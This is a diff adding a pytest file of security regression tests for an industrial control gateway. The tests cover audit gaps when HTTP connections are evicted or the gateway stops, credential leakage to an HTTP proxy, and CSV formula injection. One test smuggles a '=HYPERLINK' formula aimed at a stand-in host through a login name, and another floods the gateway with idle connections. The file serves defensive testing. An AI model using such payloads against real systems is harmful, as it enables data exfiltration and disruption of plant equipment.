@@ -1,0 +1,280 @@
+"""Hostile review of issue 13 (trust and control): defects found, each as a strict xfail test.
+
+Every test here runs over real transports (loopback TCP to the gateway's HTTP endpoint, the
+emulated Modbus feed pump, a real subprocess for ``patgw``) and fails on the reviewed code; the
+xfail reason names the defect.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import base64
+import csv
+import io
+import json
+import os
+import socket
+import subprocess
+import sys
+import threading
+from pathlib import Path
+from typing import Any
+
+import pytest
+from conftest import free_port, plan_for, running, wait_for
+from test_controlled_writes import (
+    PASSWORDS,
+    TARGET,
+    _config,
+    api_call,
+    audit_records,
+)
+
+from gateway.loader import Plan
+from gateway.runtime.supervisor import Gateway
+
+
+def _setpoint(plan: Plan) -> float:
+    return float(plan.emulators[0].instance.emulator.model.setpoint_rpm)
+
+
+def _request(body: dict[str, Any], user: str = "operator", password: str | None = None) -> bytes:
+    data = json.dumps(body).encode()
+    secret = PASSWORDS[user] if password is None else password
+    token = base64.b64encode(f"{user}:{secret}".encode()).decode()
+    head = (
+        "POST /api/v1/writes HTTP/1.1\r\nHost: 127.0.0.1\r\n"
+        f"Authorization: Basic {token}\r\nContent-Type: application/json\r\n"
+        f"Content-Length: {len(data)}\r\n\r\n"
+    )
+    return head.encode() + data
+
+
+async def _connected(plan: Plan, gateway: Gateway) -> None:
+    runner = gateway.runners[0]
+    await wait_for(lambda: runner.state.value == "connected", 10, what="the pump connected")
+
+
+def _open_connections(gateway: Gateway) -> int:
+    """patgw_http_connections_open, as /metrics reports it (counting this request's own)."""
+    assert gateway.http_address is not None
+    with socket.create_connection(gateway.http_address, timeout=10) as sock:
+        sock.sendall(b"GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n")
+        data = b""
+        while chunk := sock.recv(65536):
+            data += chunk
+    for line in data.decode().splitlines():
+        if line.startswith("patgw_http_connections_open "):
+            return int(float(line.split()[1]))
+    raise AssertionError("no patgw_http_connections_open in /metrics")
+
+
+def _write_story(plan: Plan) -> list[str]:
+    return [r["action"] for r in audit_records(plan) if r["action"].startswith("write.")]
+
+
+# -- 1. A write in progress is cancelled with its HTTP connection ----------------------------
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="an in-flight API write runs in its HTTP connection task: evicting that connection"
+    " (33 idle peers) cancels it after the pump moved, so its read-back/outcome is never audited",
+)
+@pytest.mark.asyncio
+async def test_connection_eviction_does_not_cut_a_write_out_of_the_audit_trail(
+    tmp_path: Path,
+) -> None:
+    from gateway.http import MAX_CONNECTIONS
+
+    http_port = free_port()
+    plan = plan_for(tmp_path, **_config(tmp_path, free_port(), http_port, readback_delay_s=2.0))
+    idle: list[socket.socket] = []
+    async with running(plan) as (gateway, _):
+        await _connected(plan, gateway)
+        assert gateway.http_address is not None
+        writer_sock = socket.create_connection(gateway.http_address, timeout=30)
+        try:
+            # The write's connection is the oldest; the others send nothing (a slow peer).
+            for _ in range(MAX_CONNECTIONS - 2):
+                idle.append(socket.create_connection(gateway.http_address, timeout=30))
+            opened = await asyncio.to_thread(_open_connections, gateway)
+            assert opened == MAX_CONNECTIONS, opened
+            writer_sock.sendall(_request({"target": TARGET, "value": 5, "reason": "raise"}))
+            await wait_for(lambda: _setpoint(plan) == 5, 10, what="the pump moved")
+            # The write now waits for its read-back; a hostile peer opens two connections.
+            for _ in range(2):
+                idle.append(socket.create_connection(gateway.http_address, timeout=30))
+            # Whatever the client is told, the write must finish and be audited.
+            await wait_for(
+                lambda: "write.read_back" in _write_story(plan),
+                10,
+                what="the write's read-back in the audit trail",
+            )
+        finally:
+            writer_sock.close()
+            for sock in idle:
+                sock.close()
+    story = _write_story(plan)
+    assert story[-1] == "write.read_back", story
+
+
+# -- 2. A write during stop -------------------------------------------------------------------
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="stopping the gateway cancels an API write between its execution and its read-back:"
+    " the pump moved, the audit trail holds write.executed but no outcome",
+)
+@pytest.mark.asyncio
+async def test_a_write_during_stop_is_finished_or_its_outcome_audited(tmp_path: Path) -> None:
+    http_port = free_port()
+    plan = plan_for(tmp_path, **_config(tmp_path, free_port(), http_port, readback_delay_s=2.0))
+    async with running(plan) as (gateway, _):
+        await _connected(plan, gateway)
+        call = asyncio.create_task(
+            asyncio.to_thread(
+                _raw_call, http_port, _request({"target": TARGET, "value": 5, "reason": "r"})
+            ),
+            name="test.write",
+        )
+        await wait_for(lambda: _setpoint(plan) == 5, 10, what="the pump moved")
+        # ...and the operator stops the gateway while the write waits for its read-back.
+    await call
+    story = _write_story(plan)
+    assert story[:2] == ["write.requested", "write.executed"], story
+    assert story[-1] in ("write.read_back", "write.failed"), story
+
+
+def _raw_call(port: int, request: bytes) -> bytes:
+    with socket.create_connection(("127.0.0.1", port), timeout=30) as sock:
+        sock.sendall(request)
+        data = b""
+        try:
+            while chunk := sock.recv(65536):
+                data += chunk
+        except OSError:
+            pass
+        return data
+
+
+# -- 3. patgw write hands the password to an HTTP proxy ---------------------------------------
+
+
+class _Proxy:
+    """A loopback listener standing in for a plant's HTTP proxy: records what it is sent."""
+
+    def __init__(self) -> None:
+        self.server = socket.create_server(("127.0.0.1", 0))
+        self.port = self.server.getsockname()[1]
+        self.received = b""
+        self._thread = threading.Thread(target=self._serve, name="test.proxy", daemon=True)
+        self._thread.start()
+
+    def _serve(self) -> None:
+        try:
+            conn, _ = self.server.accept()
+        except OSError:
+            return
+        with conn:
+            conn.settimeout(10)
+            try:
+                while b"\r\n\r\n" not in self.received:
+                    chunk = conn.recv(65536)
+                    if not chunk:
+                        break
+                    self.received += chunk
+                conn.sendall(b"HTTP/1.1 502 Bad Gateway\r\nContent-Length: 0\r\n\r\n")
+            except OSError:
+                pass
+
+    def close(self) -> None:
+        self.server.close()
+        self._thread.join(10)
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="patgw write uses urllib's proxy settings: with http_proxy set (no no_proxy), the"
+    " Basic credentials for the loopback API are sent to the proxy",
+)
+@pytest.mark.asyncio
+async def test_patgw_write_never_sends_the_password_to_a_proxy(tmp_path: Path) -> None:
+    http_port = free_port()
+    plan = plan_for(tmp_path, **_config(tmp_path, free_port(), http_port))
+    proxy = _Proxy()
+    env = {k: v for k, v in os.environ.items() if k.lower() not in ("no_proxy",)}
+    env["http_proxy"] = env["HTTP_PROXY"] = f"http://127.0.0.1:{proxy.port}"
+    try:
+        async with running(plan) as (gateway, _):
+            await _connected(plan, gateway)
+            result = await asyncio.to_thread(
+                subprocess.run,
+                [
+                    sys.executable,
+                    "-m",
+                    "gateway",
+                    "write",
+                    str(plan.source),
+                    TARGET,
+                    "5",
+                    "--user",
+                    "operator",
+                    "--reason",
+                    "proxy test",
+                ],
+                input=PASSWORDS["operator"] + "\n",
+                capture_output=True,
+                text=True,
+                timeout=60,
+                check=False,
+                env=env,
+            )
+    finally:
+        proxy.close()
+    secret = base64.b64encode(f"operator:{PASSWORDS['operator']}".encode())
+    assert secret not in proxy.received, proxy.received[:300]
+    assert result.returncode == 0, result.stderr
+    assert _setpoint(plan) == 5
+
+
+# -- 4. CSV export: formula injection through a login name -----------------------------------
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="audit export --format csv writes a user name chosen by an unauthenticated peer"
+    " (a failed login) into a cell unescaped: '=HYPERLINK(...)' is a formula in a spreadsheet",
+)
+@pytest.mark.asyncio
+async def test_audit_csv_export_defuses_formulas_from_unauthenticated_names(
+    tmp_path: Path,
+) -> None:
+    http_port = free_port()
+    plan = plan_for(tmp_path, **_config(tmp_path, free_port(), http_port))
+    evil = '=HYPERLINK("//x.invalid/"&A1,"ok")'  # no colon: Basic splits there
+    async with running(plan) as (gateway, _):
+        await _connected(plan, gateway)
+        status, _ = await asyncio.to_thread(
+            api_call, http_port, "GET", "/api/v1/whoami", evil, "guess"
+        )
+        assert status == 401
+        await wait_for(
+            lambda: any(r["user"] == evil for r in audit_records(plan)),
+            10,
+            what="the failed login audited",
+        )
+    result = await asyncio.to_thread(
+        subprocess.run,
+        [sys.executable, "-m", "gateway", "audit", "export", str(plan.source), "--format", "csv"],
+        capture_output=True,
+        text=True,
+        timeout=60,
+        check=False,
+    )
+    assert result.returncode == 0, result.stderr
+    rows = list(csv.DictReader(io.StringIO(result.stdout)))
+    users = [row["user"] for row in rows if evil in row["user"]]
+    assert users, "the failed login is not in the export"
+    assert all(not cell.startswith(("=", "+", "-", "@")) for cell in users), users
